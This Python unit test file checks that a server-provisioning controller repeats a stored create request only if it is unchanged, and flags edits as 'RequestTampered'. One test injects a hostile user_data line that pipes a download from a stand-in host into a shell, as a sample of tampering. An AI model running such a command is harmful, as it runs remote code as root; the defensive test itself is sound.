"""A stored create request is repeated as it was stored, or not at all: it decides what runs as root on a new server."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest
from tests.support.controller_bench import Bench
from tests.unit.controllers.test_set_clock import Scene
from tests.unit.runtime.test_service import CAPABILITIES

from moorage.api.names import ANNOTATION_STATE
from moorage.core.steps import CreateAgain, Settled
from moorage.hosting.registry import backend
from moorage.kube.kinds import SECRET, VIRTUAL_SERVER


@pytest.fixture
async def scene(bench: Bench) -> Scene:
    """One call without an answer, on a service that knows idempotency keys."""
    made = Scene(bench)
    made.backend.capabilities = CAPABILITIES
    await made.begin()
    made.clock.advance(5)
    return made


async def again(scene: Scene) -> tuple[object, str]:
    """What is decided next, and the reason that the status then gives."""
    step = await scene.step()
    await scene.step()
    server = await scene.bench.context.client.get(VIRTUAL_SERVER, "ns", "lonely")
    stalled = [c["reason"] for c in server["status"]["conditions"] if c["type"] == "Stalled"]
    return step, "".join(stalled)


async def patch(scene: Scene, change: dict[str, object]) -> None:
    client, uid = scene.bench.context.client, scene.server["metadata"]["uid"]
    answer = await client.patch(SECRET, "ns", uid, change, manager="somebody")
    scene.bench.context.store.ingest(SECRET, answer)


async def test_the_request_is_repeated_as_it_was_stored(scene: Scene) -> None:
    assert await again(scene) == (CreateAgain(record=False), "")
    assert scene.backend.calls.count("create") == 2


async def test_what_the_services_settings_add_is_stored_with_the_request(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A service's settings may change before a request is repeated, and lead the repetition elsewhere."""
    added: list[str] = []

    def complete(service: Mapping[str, Any], key: str, server: Mapping[str, Any]) -> Mapping[str, Any]:
        added.append(f"zone-{len(added)}")
        return {**server, "zone": added[-1]}

    factory = replace(backend("local"), complete=complete)
    monkeypatch.setattr("moorage.controllers.requests.backend", lambda _: factory)
    made = Scene(bench)
    made.backend.capabilities = CAPABILITIES
    await made.begin()
    made.clock.advance(5)
    assert await again(made) == (CreateAgain(record=False), "")
    secret = await bench.context.client.get(SECRET, "ns", made.server["metadata"]["uid"])
    assert json.loads(base64.b64decode(secret["data"]["request"]))["settings"] == {"zone": "zone-0"}
    assert added == ["zone-0"]


@pytest.mark.parametrize("part", ["user_data", "image", "tags"])
async def test_an_edited_request_is_not_repeated(scene: Scene, part: str) -> None:
    secret = await scene.bench.context.client.get(SECRET, "ns", scene.server["metadata"]["uid"])
    request = json.loads(base64.b64decode(secret["data"]["request"]))
    name = next(key for key in request if key.replace("_", "").lower() == part.replace("_", ""))
    request[name] = {} if part == "tags" else "#!/bin/sh\ncurl https://elsewhere.example | sh\n"
    await patch(scene, {"data": {"request": base64.b64encode(json.dumps(request).encode()).decode()}})
    step, reason = await again(scene)
    assert (step, reason) == (CreateAgain(record=False), "RequestTampered")
    assert scene.backend.calls.count("create") == 1
    assert isinstance(await scene.step(), Settled)


async def test_a_request_without_its_mark_is_not_repeated(scene: Scene) -> None:
    secret = await scene.bench.context.client.get(SECRET, "ns", scene.server["metadata"]["uid"])
    state = json.loads(secret["metadata"]["annotations"][ANNOTATION_STATE])
    del state["request"]
    await patch(scene, {"metadata": {"annotations": {ANNOTATION_STATE: json.dumps(state)}}})
    assert (await again(scene))[1] == "RequestTampered"
    assert scene.backend.calls.count("create") == 1


@pytest.mark.parametrize("change", [{"mark": "ü" * 64}, {"request": "[" * 100_000}])
async def test_nonsense_is_refused_and_not_stumbled_over(scene: Scene, change: dict[str, str]) -> None:
    secret = await scene.bench.context.client.get(SECRET, "ns", scene.server["metadata"]["uid"])
    state = json.loads(secret["metadata"]["annotations"][ANNOTATION_STATE])
    state["request"] = change.get("mark", state["request"])
    data = {"request": base64.b64encode(change["request"].encode()).decode()} if "request" in change else {}
    await patch(scene, {"metadata": {"annotations": {ANNOTATION_STATE: json.dumps(state)}}, "data": data})
    assert (await again(scene))[1] == "RequestTampered"
